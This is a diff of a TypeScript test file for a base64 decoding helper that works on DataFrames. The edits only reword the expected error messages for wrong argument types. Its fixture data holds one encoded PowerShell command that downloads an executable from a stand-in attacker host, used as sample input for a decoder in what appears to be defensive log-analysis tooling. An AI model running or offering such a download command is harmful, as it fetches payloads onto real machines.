@@ -564,17 +564,17 @@ test("plain JavaScript input: unpackDf of a non-frame says what it got (a LazyFr
   const df = pl.DataFrame({ CommandLine: [`powershell -enc ${b64("Invoke-WebRequest http://evil.example.com/p.exe")}`] });
   const untyped = base64 as unknown as { unpackDf: (...args: unknown[]) => pl.DataFrame; unpack: (...args: unknown[]) => unknown };
   const notFrame: [unknown, RegExp][] = [
-    [df.lazy(), /^base64\.unpackDf: takes a DataFrame and \{ column \}, not a LazyFrame \(collect it first: lf\.collectSync\(\), or await lf\.collect\(\)\); base64\.unpack\(text\) decodes one string\.$/],
-    [df.getColumn("CommandLine"), /not a Series \(one column: pass the DataFrame it came from\)/],
-    [Promise.resolve(df), /not a Promise \(a query or lookup not awaited: put await before it\)/],
-    [undefined, /not undefined;/],
-    [df.toRecords(), /not an array of 1 item\(s\);/],
+    [df.lazy(), /^base64\.unpackDf: takes a DataFrame and \{ column \}, not a LazyDataFrame: collect it first \(`await lf\.collect\(\)`\); base64\.unpack\(text\) decodes one string\.$/],
+    [df.getColumn("CommandLine"), /not a Series \(one column\): pass the whole DataFrame/],
+    [Promise.resolve(df), /not a Promise: a query \(or another async call\) not awaited; put `await` before it/],
+    [undefined, /not undefined \(a variable never set, or a call that returned nothing\);/],
+    [df.toRecords(), /not an array of 1 row object: make a DataFrame of them first/],
   ];
   for (const [data, message] of notFrame) assert.throws(() => untyped.unpackDf(data, { column: "CommandLine" }), { name: "Base64Error", code: "transform/base64-input", message });
   assert.throws(() => untyped.unpackDf(df, "CommandLine"), { code: "transform/base64-option", message: /^base64\.unpackDf: the second argument is an options object such as \{ column: "CommandLine" \}, not text \(11 characters\)\.$/ });
   assert.throws(() => untyped.unpackDf(df, { column: ["CommandLine"] }), { code: "transform/base64-option", message: /option column must be one column name \(text\), not a list \(1 item\(s\)\)/ });
   assert.equal(untyped.unpackDf(df, { column: "CommandLine" }).height, 1);
-  for (const [text, given] of [[5, "a number \\(5\\)"], [["x"], "an array of 1 item\\(s\\)"], [df, "a DataFrame"]] as const) {
+  for (const [text, given] of [[5, "a number \\(5\\)"], [["x"], "an array of 1 value"], [df, "a DataFrame"]] as const) {
     assert.throws(() => untyped.unpack(text), { code: "transform/base64-input", message: new RegExp(`^base64\\.unpack: decodes one string, not ${given}; base64\\.unpackDf`) });
   }
   assert.equal((untyped.unpack(undefined) as { fullDecodedString: string }).fullDecodedString, "");
